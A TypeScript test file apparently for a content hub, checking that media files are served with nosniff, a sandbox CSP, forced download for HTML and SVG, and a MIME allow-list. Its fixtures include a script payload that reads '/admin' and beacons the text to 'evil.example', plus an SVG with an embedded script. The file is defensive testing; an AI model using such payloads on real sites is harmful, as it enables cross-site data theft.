import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { parseMediaMeta } from '../../../content/index.js';
import { startTestHub, type TestHub } from '../../support/index.js';

const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

/** Issue #20, item 5: a signed pack's media must never run as a page of the hub's origin. */
describe('media answers', () => {
  let hub: TestHub;
  const files: Record<string, { bytes: Buffer; mime: string; filename: string }> = {
    html: {
      bytes: Buffer.from('<script>fetch("/admin").then(r=>r.text()).then(t=>navigator.sendBeacon("http://evil.example/",t))</script>'),
      mime: 'text/html',
      filename: 'page.html',
    },
    text: { bytes: Buffer.from('<b>Compte rendu</b> de la réunion'), mime: 'text/plain', filename: 'compte-rendu.txt' },
    audio: { bytes: Buffer.from('OggS fake audio bytes'), mime: 'audio/ogg', filename: 'voix.opus' },
    pdf: { bytes: Buffer.from('%PDF-1.4 fake'), mime: 'application/pdf', filename: 'guide budget.pdf' },
    svg: { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), mime: 'image/svg+xml', filename: 'x.svg' },
  };
  before(async () => {
    hub = await startTestHub();
    // As if they had come from central, whatever the schema says today: the answer must be safe anyway.
    for (const f of Object.values(files)) {
      const s = sha(f.bytes);
      await hub.deps.media.put(f.bytes, s);
      await hub.deps.dbs.media.put({ _id: `media:${s}`, type: 'media', sha256: s, size: f.bytes.length, mime: f.mime, filename: f.filename, priority: 3 });
    }
  });
  after(() => hub.stop());

  // The first GET goes through Express (facts not yet known), the second through the raw fast path.
  const twice = async (name: string) => [
    await fetch(`${hub.url}/media/${sha(files[name]!.bytes)}`),
    await fetch(`${hub.url}/media/${sha(files[name]!.bytes)}`),
  ];

  it('sends every media answer with nosniff and a sandboxing CSP', async () => {
    for (const name of Object.keys(files)) {
      for (const res of await twice(name)) {
        assert.equal(res.status, 200);
        assert.equal(res.headers.get('x-content-type-options'), 'nosniff', name);
        assert.match(res.headers.get('content-security-policy')!, /(^|;\s*)sandbox(;|$)/, name);
      }
    }
  });

  it('never serves HTML or SVG as such: bytes to download', async () => {
    for (const name of ['html', 'svg']) {
      for (const res of await twice(name)) {
        assert.equal(res.headers.get('content-type'), 'application/octet-stream', name);
        assert.match(res.headers.get('content-disposition')!, /^attachment/, name);
      }
    }
  });

  it('serves text as plain text, audio inline, a PDF as an attachment with its name', async () => {
    for (const res of await twice('text')) {
      assert.equal(res.headers.get('content-type'), 'text/plain; charset=utf-8');
      assert.equal(res.headers.get('content-disposition'), 'inline');
    }
    for (const res of await twice('audio')) {
      assert.equal(res.headers.get('content-type'), 'audio/ogg');
      assert.equal(res.headers.get('content-disposition'), 'inline');
    }
    for (const res of await twice('pdf')) {
      assert.equal(res.headers.get('content-type'), 'application/pdf');
      assert.equal(res.headers.get('content-disposition'), `attachment; filename="guide_budget.pdf"`);
    }
  });

  it('refuses media types outside the allow-list in the shared schema (packs and central)', () => {
    const meta = (mime: string) => ({ _id: `media:${'a'.repeat(64)}`, type: 'media', sha256: 'a'.repeat(64), size: 1, mime, filename: 'f', priority: 3 });
    for (const mime of ['text/html', 'image/svg+xml', 'application/javascript', 'application/xhtml+xml', 'text/xml', 'application/octet-stream']) {
      assert.throws(() => parseMediaMeta(meta(mime)), /mime/, mime);
    }
    for (const mime of ['audio/ogg', 'audio/mpeg', 'video/mp4', 'video/webm', 'image/png', 'image/jpeg', 'image/webp', 'application/pdf', 'text/plain'])
      parseMediaMeta(meta(mime));
  });
});
